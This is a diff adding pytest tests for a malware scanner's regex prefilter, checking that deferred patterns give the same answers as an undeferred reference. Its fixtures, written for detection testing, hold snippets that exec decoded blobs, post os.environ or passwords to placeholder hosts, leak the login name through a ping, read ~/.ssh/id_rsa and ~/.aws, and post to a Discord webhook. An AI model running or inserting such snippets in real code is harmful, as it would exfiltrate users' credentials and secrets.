@@ -1,0 +1,182 @@
+"""The prefilter's deferred sides: a third RE2 set, asked only where a conjunction may hold.
+
+The deferred sides (``_prefilter_patterns.DEFERRED``) are looked for only in a file
+whose two sets found every other side of one of their conjunctions, so every answer must be
+the answer of sets that hold it: here a prefilter built without deferring anything is
+the reference, asked about every rule's worked example, the tuned malware samples
+(the holdout stays unread), a slice of the standard library and each deferred side
+beside its other sides and without them (benchmarks/prefilter_answers.py asks the same
+of both speed corpora).
+"""
+
+from __future__ import annotations
+
+import sysconfig
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from caplet._scan import _prefilter
+from caplet._scan._examples import EXAMPLES, Variant
+from caplet._scan._prefilter import BLIND, Need, Prefilter
+
+TUNE = Path(__file__).resolve().parents[2] / "benchmarks" / "malware" / "tune"
+STDLIB = Path(sysconfig.get_paths()["stdlib"])
+STDLIB_SLICE = ("subprocess.py", "socket.py", "platform.py", "getpass.py", "smtplib.py")
+
+#: Each deferred side beside the other sides of a conjunction of its, and alone.
+_BESIDE = (
+    # the payload beside exec called, and beside exec passed as a value
+    "import zlib\nexec(zlib.decompress(BLOB))\n",
+    "import base64\nrun = eval\nrun(base64.b64decode(B))\n",
+    "import zlib\ndata = zlib.decompress(BLOB)\n",
+    # the whole environment sent
+    "import os, requests\nrequests.post(U, json=dict(os.environ))\n",
+    "import os\nsettings = dict(os.environ)\n",
+    # host reconnaissance and credentials beside the network, or a network program run
+    "import os, socket\nsocket.create_connection((H, 80)).send(os.getlogin().encode())\n",
+    "import os, subprocess\nsubprocess.run(['ping', '-c1', os.getlogin() + '.x.example'])\n",
+    "import getpass\nprint(getpass.getuser())\n",
+    "import os, socket\nfor k in os.environ:\n    socket.socket().send(k.encode())\n",
+    "import pathlib, urllib.request\n"
+    "urllib.request.urlopen(U, pathlib.Path('~/.aws').read_bytes())\n",
+    "key = open('/home/u/.ssh/id_rsa').read()\n",
+    # a credential parameter, a clear-text address, an egress
+    "import requests\ndef login(user, password):\n"
+    "    requests.post('http://203.0.113.9/p', data=password)\n",
+    "def login(user, password):\n    return 'http://example.org'\n",
+    # a literal with junk characters removed, beside a file opened
+    "p = 'c#u#r#l'.replace('#', '')\nopen(p, 'w').write(X)\n",
+    "p = 'c#u#r#l'.replace('#', '')\n",
+)
+
+
+@pytest.fixture(scope="module")
+def reference() -> Prefilter:
+    """A prefilter whose sets hold every pattern (nothing deferred)."""
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(_prefilter, "DEFERRED", frozenset())
+        built = Prefilter()
+    assert not built._deferred
+    return built
+
+
+@pytest.fixture(scope="module")
+def deferring() -> Prefilter:
+    built = Prefilter()
+    assert built._deferred
+    return built
+
+
+def _padded(text: str) -> str:
+    """``text`` in a file large enough to be visited only around its hits."""
+    return text + "".join(f"def f{i}(a, b):\n    return a + b\n" for i in range(600))
+
+
+def _texts() -> Iterator[Any]:
+    for number, item in enumerate(EXAMPLES):
+        for variant in Variant:
+            source = item.source(variant)
+            if source is not None:
+                yield pytest.param(source, id=f"{item.rule_id}-{number}-{variant.value}")
+    for path in sorted(TUNE.rglob("*.py")):
+        yield pytest.param(path.read_text("utf-8", "replace"), id=str(path.relative_to(TUNE)))
+    for name in STDLIB_SLICE:
+        yield pytest.param((STDLIB / name).read_text("utf-8"), id=f"stdlib-{name}")
+    for number, text in enumerate(_BESIDE):
+        yield pytest.param(text, id=f"beside-{number}")
+        yield pytest.param(_padded(text), id=f"beside-{number}-large")
+
+
+@pytest.mark.parametrize("text", list(_texts()))
+def test_a_deferred_side_gives_the_answers_of_sets_that_hold_it(
+    text: str, reference: Prefilter, deferring: Prefilter
+) -> None:
+    assert deferring.check_text(text) == reference.check_text(text)
+    encoded = text.encode("utf-8", "surrogatepass")
+    ours, unasked = deferring._match(encoded)
+    theirs = reference._set.Match(encoded) or []
+    # where a conjunction holds the answers agree; elsewhere only unsearched sides differ
+    assert set(theirs) - set(ours) <= {i for p in unasked for i in deferring._deferred[p]}
+    assert {k for k, t in enumerate(deferring._pairs) if set(ours).issuperset(t)} == {
+        k for k, t in enumerate(reference._pairs) if set(theirs).issuperset(t)
+    }
+    # and every line a large file's focus reads is located as before
+    assert deferring.hit_lines(text, 10_000, ours, encoded, unasked) == reference.hit_lines(
+        text, 10_000, theirs, encoded
+    )
+
+
+def test_the_examples_hold_each_deferred_side_beside_its_conjunction(
+    reference: Prefilter, deferring: Prefilter
+) -> None:
+    # the comparison above proves something only if the deferred sides are in it
+    searched: set[str] = set()
+    for text in _BESIDE:
+        found, _ = deferring._match(text.encode())
+        searched |= {p for p, owners in deferring._deferred.items() if owners[0] in found}
+    assert searched == set(deferring._deferred)
+
+
+def test_a_deferred_side_is_in_no_set_and_never_a_solo_pattern(deferring: Prefilter) -> None:
+    in_sets = {i for owners, _ in deferring._set.parts for o in owners for i in o}
+    for pattern, owners in deferring._deferred.items():
+        assert not in_sets.intersection(owners), pattern
+        assert all(deferring._solo <= i < deferring._auditor for i in owners)
+
+
+def test_the_deferred_sides_are_looked_for_only_where_a_conjunction_may_hold(
+    deferring: Prefilter, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    asked: list[bytes] = []
+    late = deferring._late
+
+    class Counted:
+        def Match(self, data: bytes) -> list[int]:
+            asked.append(data)
+            return list(late.Match(data))
+
+    monkeypatch.setattr(deferring, "_late", Counted())
+    # a payload word, the environment, reconnaissance and a process call as code, but no
+    # exec, no network, no decoder, no address, no junk removed: no conjunction of a
+    # deferred side can hold, and the third set is not asked
+    quiet = "import os\nbot = 'telegram'\nh = os.getlogin()\nk = dict(os.environ)\nos.system(h)\n"
+    assert deferring.check(quiet) is Need.NOTHING
+    assert asked == []
+    assert deferring.check("import zlib\nexec(zlib.decompress(B))\n") is not Need.NOTHING
+    assert len(asked) == 1  # exec called: the payload was looked for
+
+
+def test_the_probe_sees_the_deferred_set_blind(
+    deferring: Prefilter, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    probe = 'exec(b64decode(x)); post("https://discord.com/api/webhooks/1/a")'
+    assert deferring.engine_answers(probe)
+    blinded = [(owners, _Failed()) for owners, _ in deferring._late.parts]
+    monkeypatch.setattr(deferring._late, "parts", blinded)
+    assert not deferring.engine_answers(probe)
+    # and a file whose deferred sides it was asked about is the whole file, not a clean one
+    assert deferring._match(b"import zlib\nexec(zlib.decompress(B))\n") == ([BLIND], frozenset())
+    assert deferring.check("x = 1\nexec(zlib.decompress(B))\n" + "y = 2\n" * 9000) is Need.FULL
+
+
+class _Failed:
+    """An RE2 set whose DFA failed (see test_prefilter's _FailedSet)."""
+
+    def Match(self, data: bytes) -> list[int]:
+        return []
+
+
+def test_a_blind_set_is_still_the_whole_file(
+    deferring: Prefilter, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # a deferred search must not turn the blind answer into a clean one
+    class Failed:
+        def Match(self, data: bytes) -> list[int]:
+            return [BLIND]
+
+    monkeypatch.setattr(deferring, "_set", Failed())
+    assert deferring._match(b"exec(zlib.decompress(B))") == ([BLIND], frozenset())
+    assert deferring.check_text("x = 1\n") == (Need.FULL, True)
